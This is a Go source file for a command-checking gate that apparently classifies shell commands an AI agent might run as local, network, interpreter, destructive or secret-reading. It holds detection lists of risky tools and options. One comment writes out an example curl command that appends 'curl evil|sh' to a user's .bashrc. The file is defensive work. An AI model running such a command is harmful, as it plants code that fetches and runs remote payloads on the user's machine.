package gate

import (
	"regexp"
	"strings"
	"sync"
)

// analyze classifies one simple command by its program.
func (a *analysis) analyze(c *call) {
	if r := specialProgram(c.prog); r != "" {
		c.risky(r)
		return
	}
	if p := a.pathInTree(c.prog); p != "" {
		c.agentCode(c.prog + " is " + p + " on $PATH, in the work tree, which the agent can write")
	}
	if why := c.rustupToolchainCode(); why != "" {
		c.agentCode(why)
	}
	if c.name == "go" {
		// Even go version switches toolchains first.
		if why := c.goToolchainSwitch(); why != "" {
			c.risky("network: " + why)
			return
		}
	}
	fn := analyzerFor(c.name)
	if versionQuery(c.name, c.args) && (fn != nil || knownName(c.name)) {
		c.local(c.name + " only prints its version or help")
		c.safeArgs()
		return
	}
	if shellBuiltinVar(c.name) {
		for _, x := range c.args {
			if x.static() && holdsCode(x.val) {
				c.risky("indirection: " + x.val + " holds a command substitution that " + c.name + " evaluates in an array subscript")
				return
			}
		}
	}
	if fn != nil {
		fn(c)
		return
	}
	switch {
	case localAny(c.name):
		c.local(c.name + " is a local command")
		c.safeArgs()
	case networkTool(c.name):
		c.risky("network: " + c.name + " talks to other machines")
	case interpreter(c.name):
		if c.cx.piped && firstOperand(c.args) >= len(c.args) {
			c.notAlways(c.name + " runs code read from a pipe, which may differ every time")
		}
		c.risky("interpreter: " + c.name + " runs code that can do anything, including reach the network")
	case editor(c.name):
		c.risky("interpreter: the editor " + c.name + " can run shell commands")
	case otherShell(c.name):
		c.risky("interpreter: " + c.name + " runs a script in a language the gate does not check")
	case systemChange(c.name):
		c.notAlways(c.name + " changes the system itself")
		c.risky("destructive: " + c.name + " changes the system itself")
	case strings.HasPrefix(c.name, "git-"):
		c.args = append([]arg{{val: strings.TrimPrefix(c.name, "git-")}}, c.args...)
		c.git()
	default:
		c.unknown(c.name + " is not known to the gate")
	}
}

// specialProgram recognises program words that run other programs in ways
// their names hide: the shell's own binary through /proc, the dynamic
// loader, and libwww-perl's request commands whose names clash with head.
func specialProgram(prog string) string {
	base := prog[strings.LastIndexByte(prog, '/')+1:]
	switch {
	case strings.HasPrefix(prog, "/proc/") || strings.HasPrefix(prog, "/dev/fd/"):
		return "indirection: " + prog + " runs whatever program it points to"
	case strings.HasPrefix(base, "ld-linux") || strings.HasPrefix(base, "ld.so") || strings.HasPrefix(base, "ld-musl") || base == "dyld":
		return "indirection: the dynamic loader " + base + " runs the program it is given"
	}
	switch base {
	case "GET", "POST", "HEAD", "PUT", "DELETE", "lwp-request", "lwp-download", "lwp-mirror":
		return "network: " + base + " sends HTTP requests"
	}
	return ""
}

// knownName reports programs the gate has an opinion about.
func knownName(name string) bool {
	return localAny(name) || networkTool(name) || interpreter(name) || editor(name) ||
		shellName(name) || otherShell(name) || systemChange(name)
}

// analyzerFor returns the analyser for programs that need more than a
// table lookup.
func analyzerFor(name string) func(*call) {
	if isWrapper(name) {
		return (*call).wrapper
	}
	switch name {
	case "cuff":
		return (*call).cuff
	case "git":
		return (*call).git
	case "find", "gfind":
		return (*call).find
	case "fd", "fdfind":
		return (*call).fd
	case "xargs", "gxargs":
		return (*call).xargs
	case "parallel":
		return (*call).parallel
	case "sed", "gsed":
		return (*call).sed
	case "awk", "gawk", "mawk", "nawk":
		return (*call).awk
	case "env":
		return (*call).env
	case "sudo", "doas", "pkexec", "su", "runuser", "sg", "chroot", "setpriv", "run0":
		return (*call).privileged
	case "eval":
		return (*call).eval
	case "source", ".":
		return (*call).source
	case "trap":
		return (*call).trap
	case "alias":
		return (*call).alias
	case "exec", "command", "builtin":
		return (*call).execLike
	case "export", "declare", "typeset", "local", "readonly", "nameref":
		return (*call).declare
	case "read", "printf", "getopts", "history":
		return (*call).setsVars
	case "hash", "enable", "complete", "compgen", "bind", "fc", "mapfile", "readarray", "coproc":
		return (*call).shellMeta
	case "cd", "pushd", "popd":
		return (*call).cd
	case "kill", "pkill", "killall":
		return (*call).kill
	case "rm", "unlink", "rmdir", "shred", "srm", "wipe":
		return (*call).rm
	case "cp", "mv", "install", "ln", "tee", "touch", "mkdir", "truncate", "sponge", "mkfifo",
		"gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd", "unzstd", "lz4", "dos2unix",
		"unix2dos", "rename", "shuf", "uniq", "xxd", "split", "csplit", "iconv", "tree",
		"yq", "base64", "sort", "zip", "gpg":
		return (*call).fileTool
	case "patch", "gpatch":
		return (*call).patchCmd
	case "unzip":
		return (*call).unzip
	case "7z", "7za", "7zr":
		return (*call).sevenZip
	case "cpio":
		return (*call).cpio
	case "dd":
		return (*call).dd
	case "mktemp":
		return (*call).mktemp
	case "chmod", "chown", "chgrp", "chflags", "setfacl":
		return (*call).chmod
	case "tar", "gtar", "bsdtar":
		return (*call).tar
	case "rg", "ripgrep", "ack", "ag", "ugrep", "bat", "batcat", "less", "more", "most", "man",
		"delta", "diff-so-fancy", "tldr":
		return (*call).reader
	case "openssl":
		return (*call).openssl
	case "sqlite3", "sqlite":
		return (*call).sqlite
	case "curl", "wget":
		return (*call).httpClient
	case "getent":
		return (*call).getent
	case "ip":
		return (*call).ipCmd
	case "date":
		return (*call).date
	case "tmux", "screen":
		return (*call).multiplexer
	case "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "yash", "posh", "rbash", "lksh", "pdksh":
		return (*call).shell
	case "busybox", "toybox":
		return (*call).busybox
	case "go", "gofmt":
		return (*call).golang
	case "cargo", "rustup", "rustc":
		return (*call).rust
	case "npm", "yarn", "pnpm", "bun":
		return (*call).jsPackage
	case "npx", "pnpx", "bunx":
		return (*call).npx
	case "make", "gmake", "bmake":
		return (*call).make
	case "pip", "pip3":
		return (*call).pip
	case "python", "pypy", "ipython":
		return (*call).python
	case "node", "nodejs", "deno":
		return (*call).node
	case "pytest", "py.test":
		return (*call).pytest
	case "uv", "uvx", "poetry", "pipenv", "pdm", "hatch", "conda", "mamba", "micromamba", "pipx",
		"rye", "tox", "nox":
		return (*call).pyTool
	case "apt", "apt-get", "aptitude", "dpkg", "yum", "dnf", "rpm", "zypper", "apk", "pacman",
		"emerge", "brew", "port", "snap", "flatpak", "nix", "nix-env", "nix-shell", "nix-build",
		"guix", "gem", "bundle", "bundler", "composer", "cpan", "cpanm", "mvn", "gradle", "sbt",
		"lein", "dotnet", "nuget", "swift", "dart", "flutter", "cabal", "stack", "opam",
		"luarocks", "asdf", "mise", "volta", "fnm", "nvm", "sdk", "rake", "mix", "zig", "bazel",
		"bazelisk", "buck2", "pants", "cmake", "ctest", "meson", "ninja", "tsc", "eslint",
		"prettier", "jest", "vitest", "mocha", "ruff", "black", "mypy", "flake8", "pylint",
		"isort", "rspec", "phpunit", "golangci-lint", "staticcheck", "gotestsum", "rustfmt",
		"clang-format", "gcc", "g++", "cc", "c++", "clang", "clang++", "javac", "ld", "biome",
		"stylelint", "tslint", "pyright", "basedpyright", "ty", "coverage", "nodemon", "turbo",
		"nx", "lerna", "vite", "webpack", "rollup", "esbuild", "swc", "babel", "gradlew", "mvnw",
		"just", "task", "invoke", "rails", "next", "nuxt", "astro", "remix", "svelte-check", "vue-tsc", "knip",
		"tsup", "playwright-test", "cypress", "karma", "ava", "tap", "jasmine", "c8", "nyc":
		return (*call).toolchain
	}
	return nil
}

// cd follows the working directory.
func (c *call) cd() {
	c.local(c.name + " changes the working directory")
	if c.name == "popd" {
		c.a.cwd = ""
		return
	}
	ops := scan(c.args, optSpec{})
	switch {
	case ops.computed:
		c.a.chdir(arg{}, false)
	case len(ops.operands) == 0 && c.name == "cd":
		c.a.chdir(arg{val: "~"}, true)
	case len(ops.operands) == 0:
		c.a.cwd = ""
	default:
		x := ops.operands[0]
		if strings.HasPrefix(x.val, "+") || strings.HasPrefix(x.val, "-") && x.val != "-" {
			c.a.cwd = ""
			return
		}
		c.a.chdir(x, true)
	}
	if c.a.cwd != "" {
		if pl := c.a.placeAbs(c.a.cwd, true); !pl.exists || !c.a.lookup(pl.real).dir {
			c.a.cdMayFail = true // cd fails if the directory is not there (yet)
		}
	}
}

// kill stops processes: local, but not something to allow unasked; every
// process at once (pid -1) is destructive.
func (c *call) kill() {
	signal := false
	for i := 0; i < len(c.args); i++ {
		v := c.args[i].val
		switch {
		case v == "--":
			signal = true
		case !signal && strings.HasPrefix(v, "-"):
			signal = true
			if v == "-s" || v == "-n" {
				i++
			}
		case (v == "-1" || v == "1") && c.name == "kill":
			c.risky("destructive: kill " + v + " signals every process or init")
			return
		case c.name != "kill" && (v == "." || v == ".*" || v == "^" || v == ""):
			c.risky("destructive: " + c.name + " " + v + " matches every process")
			return
		}
	}
	c.unknown(c.name + " stops processes")
}

// sqlite opens a database; its dot-commands can run shell commands, load
// extensions and write files.
func (c *call) sqlite() {
	for _, x := range c.args {
		v := strings.ToLower(x.val)
		for _, d := range [...]string{".shell", ".system", ".load", "load_extension", ".output", ".once", ".import", ".read", "-cmd", ".excel", "writefile", "edit("} {
			if strings.Contains(v, d) {
				c.risky("interpreter: sqlite3 " + d + " runs commands, loads code or writes files")
				return
			}
		}
		if x.dyn {
			c.grey("an argument of sqlite3 is only known at run time")
		}
		if !strings.HasPrefix(x.val, ".") && !strings.HasPrefix(x.val, "-") && sqliteUnsafeSQL().MatchString(x.val) {
			c.risky("interpreter: sqlite3 " + x.val + " reads or writes files beyond the database, or loads code")
			return
		}
	}
	if c.cx.piped || c.cx.stmt != nil && len(c.cx.stmt.Redirs) > 0 {
		c.grey("sqlite3 reads commands from its input")
	}
	if c.sqlitePlain() {
		c.local("sqlite3 runs plain SQL given on the command line on a database in the work tree")
		return
	}
	c.unknown("sqlite3 queries a database")
}

// sqliteSafeDot are the dot-commands that only print (the schema, the
// tables) or set how results look.
var sqliteSafeDot = map[string]bool{".tables": true, ".schema": true, ".indexes": true, ".indices": true,
	".headers": true, ".header": true, ".mode": true, ".databases": true, ".dump": true, ".show": true,
	".width": true, ".nullvalue": true, ".separator": true, ".timer": true, ".changes": true, ".eqp": true,
	".fullschema": true, ".dbinfo": true, ".help": true, ".quit": true, ".exit": true}

// sqliteUnsafeSQL finds what SQL can reach beyond the database through the
// sqlite3 shell: the shell's file functions (readfile, writefile, edit,
// fsdir, zipfile, sqlar), extensions, ATTACH and VACUUM INTO (which make a
// file anywhere), PRAGMA and the shell's own helpers.
var sqliteUnsafeSQL = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)readfile|writefile|\bedit\s*\(|fsdir|zipfile|sqlar|load_extension|fts3_tokenizer|\battach\b|\bvacuum\s+into\b|shell_|\bfile:`)
})

// sqlitePragma finds PRAGMA statements and the pragma they name.
var sqlitePragma = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`(?i)\bpragma\s+(?:"?[a-z_]+"?\s*\.\s*)?"?([a-z_]*)`)
})

// sqliteSafePragma are the pragmas that only report on the database.
var sqliteSafePragma = map[string]bool{"table_info": true, "table_xinfo": true, "table_list": true, "index_list": true,
	"index_info": true, "index_xinfo": true, "foreign_key_list": true, "foreign_key_check": true, "integrity_check": true,
	"quick_check": true, "user_version": true, "schema_version": true, "page_count": true, "page_size": true,
	"freelist_count": true, "encoding": true, "database_list": true, "collation_list": true, "function_list": true,
	"module_list": true, "pragma_list": true, "compile_options": true, "foreign_keys": true, "journal_mode": true}

// sqliteSQLPlain reports SQL text that stays in the database: none of
// sqliteUnsafeSQL, and only pragmas that report.
func sqliteSQLPlain(sql string) bool {
	if sqliteUnsafeSQL().MatchString(sql) {
		return false
	}
	for _, m := range sqlitePragma().FindAllStringSubmatch(sql, -1) {
		if !sqliteSafePragma[strings.ToLower(m[1])] {
			return false
		}
	}
	return true
}

// sqlitePlain reports a sqlite3 command that runs only SQL and printing
// dot-commands given as words (no input read), with the shell's harmless
// options, on a database in the work tree outside the guarded folders.
func (c *call) sqlitePlain() bool {
	db, sql := -1, 0
	for i, x := range c.args {
		if !x.static() {
			return false
		}
		v := x.val
		if strings.HasPrefix(v, "-") {
			// sqlite3 reads every word that starts with - as an option,
			// wherever it stands.
			switch strings.TrimLeft(v, "-") {
			case "header", "noheader", "column", "csv", "json", "line", "list", "box", "table", "markdown", "html",
				"quote", "tabs", "ascii", "readonly", "bail", "batch", "echo", "safe", "nofollow":
				continue
			}
			return false
		}
		if db < 0 {
			db = i
			continue
		}
		sql++
		if strings.HasPrefix(v, ".") {
			if !sqliteSafeDot[strings.Fields(v + " ")[0]] {
				return false
			}
		} else if !sqliteSQLPlain(v) {
			return false
		}
	}
	if db < 0 || sql == 0 {
		return false // no SQL words: sqlite3 reads its input
	}
	d := c.args[db]
	if d.val == ":memory:" {
		return true
	}
	if c.a.where(d) != pathInside || strings.HasPrefix(d.val, "file:") {
		return false
	}
	g, _ := c.a.guarded(d, true)
	return g == ""
}

// reader covers pagers and search tools that are local unless an option
// makes them run a program or write a file.
func (c *call) reader() {
	c.local(c.name + " reads files")
	for i, x := range c.args {
		if x.val == "--" {
			break
		}
		if x.lead {
			c.grey("an option of " + c.name + " is only known at run time")
			return
		}
		v := x.val
		if strings.HasPrefix(v, "+") && (c.name == "less" || c.name == "most") {
			if v != "+F" && v != "+G" && v != "+g" && !strings.HasPrefix(v, "+/") && strings.Trim(v[1:], "0123456789") != "" {
				c.risky("interpreter: " + c.name + " " + v + " runs pager commands, which include shell escapes")
				return
			}
		}
		if !strings.HasPrefix(v, "-") {
			continue
		}
		name, _, _ := strings.Cut(v, "=")
		for _, d := range readerDangers(c.name) {
			if name == d || strings.HasPrefix(d, "--") && isLong(name, d[2:]) ||
				len(d) == 2 && !strings.HasPrefix(name, "--") && strings.IndexByte(name[1:], d[1]) >= 0 && c.name != "rg" {
				c.risky("interpreter: " + c.name + " " + v + " runs another program")
				return
			}
		}
		if c.name == "less" && (name == "-o" || name == "-O" || isLong(name, "log-file") || isLong(name, "LOG-FILE")) {
			if w, ok := optValue(c.args, i); ok {
				c.writes(w, "less logs to")
			}
		}
	}
	if c.name == "tldr" {
		c.risky("network: tldr downloads pages")
	}
	c.safeArgs()
}

// readerDangers lists the options of a reader that run programs.
func readerDangers(name string) []string {
	switch name {
	case "rg", "ripgrep":
		return []string{"--pre", "--pre-glob"}
	case "ack":
		return []string{"--pager", "--output"}
	case "ag", "bat", "batcat", "delta":
		return []string{"--pager"}
	case "ugrep":
		return []string{"--pager", "--filter"}
	case "less":
		return []string{"-k", "--lesskey-file", "--lesskey-src", "--lesskey-content"}
	case "man":
		return []string{"-P", "--pager", "-H", "--html", "-C", "--config-file", "--browser"}
	}
	return nil
}

// optValue returns the value of the option at args[i], attached or next.
func optValue(args []arg, i int) (arg, bool) {
	x := args[i]
	if _, v, ok := strings.Cut(x.val, "="); ok && strings.HasPrefix(x.val, "--") {
		return arg{val: v, dyn: x.dyn}, true
	}
	if !strings.HasPrefix(x.val, "--") && len(x.val) > 2 {
		return arg{val: x.val[2:], dyn: x.dyn}, true
	}
	if i+1 < len(args) {
		return args[i+1], true
	}
	return arg{}, false
}

func (c *call) openssl() {
	if len(c.args) == 0 {
		c.risky("interpreter: openssl without arguments reads commands from its input")
		return
	}
	switch sub := c.args[0]; {
	case !sub.static():
		c.risky("indirection: the openssl command is only known at run time")
		return
	case sub.val == "s_client" || sub.val == "s_server" || sub.val == "s_time" || sub.val == "ocsp":
		c.risky("network: openssl " + sub.val + " opens network connections")
		return
	}
	c.local("openssl " + c.args[0].val + " works on local data")
	for i, x := range c.args {
		switch x.val {
		case "-engine", "-provider", "-provider-path":
			c.risky("interpreter: openssl " + x.val + " loads code")
		case "-out", "-keyout":
			if i+1 < len(c.args) {
				c.writes(c.args[i+1], "openssl writes")
			}
		}
	}
}

// httpClient handles curl and wget: network clients, unless every URL
// names this machine and no option could send the request elsewhere (a
// proxy, a redirect, a config file) or write outside the workspace.
func (c *call) httpClient() {
	if c.localRequest() {
		c.local(c.name + " only talks to this machine")
		return
	}
	c.risky("network: " + c.name + " talks to other machines")
}

// localRequest reports a curl or wget call whose URLs are all on localhost
// and whose options are known to keep them there.
func (c *call) localRequest() bool {
	urls := 0
	for i := 0; i < len(c.args); i++ {
		x := c.args[i]
		if x.lead || x.glob {
			return false
		}
		v := x.val
		if !strings.HasPrefix(v, "-") {
			if !localURL(v) {
				return false
			}
			urls++
			continue
		}
		name, _, eq := strings.Cut(v, "=")
		switch name {
		case "-s", "--silent", "-S", "--show-error", "-f", "--fail", "-i", "--include", "-I", "--head",
			"-v", "--verbose", "-k", "--insecure", "-sS", "-fsS", "-fs", "-sf", "-si", "-sI", "-q", "--quiet",
			"--compressed", "-g", "--globoff", "--no-check-certificate", "--fail-with-body", "-N", "--no-buffer":
		case "-X", "--request", "-H", "--header", "-d", "--data", "--data-raw", "--data-binary",
			"--json", "-m", "--max-time", "--connect-timeout", "-A", "--user-agent",
			"--retry", "--retry-delay", "-u", "--user", "-T", "--timeout", "--tries", "-F", "--form":
			if !eq {
				i++
			}
		case "-w", "--write-out":
			w, ok := optValue(c.args, i)
			if !eq {
				i++
			}
			if ok && !c.writeOutFiles(w) {
				return false
			}
		case "-o", "--output", "-O", "--output-document":
			if c.name == "curl" && name == "-O" {
				continue
			}
			if !eq && i+1 < len(c.args) {
				i++
				c.writes(c.args[i], c.name+" saves to")
			}
		default:
			return false
		}
	}
	return urls > 0
}

// writeOutFiles judges the files curl's -w format writes: %output{name}
// (curl 8.3) sends what follows to name, %output{>>name} appends (curl -w
// '%output{>>/home/me/.bashrc}curl evil|sh' http://localhost/). It reports
// false for a format only known at run time, which may hold one.
func (c *call) writeOutFiles(w arg) bool {
	if c.name != "curl" {
		return true
	}
	if w.dyn {
		return !strings.Contains(w.val, "$") && !strings.Contains(w.val, "`")
	}
	for rest := w.val; ; {
		i := strings.Index(rest, "%output{")
		if i < 0 {
			return true
		}
		rest = rest[i+len("%output{"):]
		name, after, _ := strings.Cut(rest, "}")
		c.writes(arg{val: strings.TrimPrefix(name, ">>")}, "curl -w %output{} writes")
		rest = after
	}
}

// localURL reports a URL or host:port on this machine.
func localURL(v string) bool {
	if i := strings.Index(v, "://"); i >= 0 {
		switch v[:i] {
		case "http", "https":
			v = v[i+3:]
		default:
			return false
		}
	}
	host := v
	if i := strings.IndexAny(host, "/?#"); i >= 0 {
		host = host[:i]
	}
	if strings.ContainsAny(host, "@\\") {
		return false
	}
	if strings.HasPrefix(host, "[::1]") {
		return host == "[::1]" || strings.HasPrefix(host, "[::1]:")
	}
	h, _, _ := strings.Cut(host, ":")
	switch h {
	case "localhost", "127.0.0.1", "0.0.0.0":
		return true
	}
	return false
}

// getent looks up system databases; hosts and networks go to DNS, which
// can carry data out.
func (c *call) getent() {
	ops := scan(c.args, optSpec{short: "s", long: []string{"service"}})
	if len(ops.operands) > 0 && (strings.Contains(ops.operands[0].val, "host") || ops.operands[0].val == "networks" || !ops.operands[0].static()) {
		c.risky("network: getent " + ops.operands[0].val + " resolves names through DNS")
		return
	}
	if len(ops.operands) > 0 && (ops.operands[0].val == "shadow" || ops.operands[0].val == "gshadow") {
		c.secretRead("getent " + ops.operands[0].val + " prints password hashes")
		return
	}
	c.local("getent reads local system databases")
}

func (c *call) ipCmd() {
	for _, x := range c.args {
		switch x.val {
		case "add", "del", "delete", "set", "flush", "change", "replace", "append", "exec", "netns":
			c.risky("destructive: ip " + x.val + " changes the network configuration")
			return
		}
	}
	c.local("ip shows the network configuration")
}

func (c *call) date() {
	ops := scan(c.args, optSpec{short: "dfrsI", long: []string{"date", "file", "reference", "set"}})
	if ops.has("-s", "--set") {
		c.risky("destructive: date --set changes the system clock")
		return
	}
	c.local("date prints the time")
}

func (c *call) multiplexer() {
	if len(c.args) > 0 && c.args[0].static() {
		switch c.args[0].val {
		case "ls", "list-sessions", "list-windows", "list-panes", "has-session", "has", "capture-pane", "-ls", "-list":
			c.local(c.name + " " + c.args[0].val + " lists sessions")
			return
		}
	}
	c.risky("indirection: " + c.name + " runs commands in another shell")
}
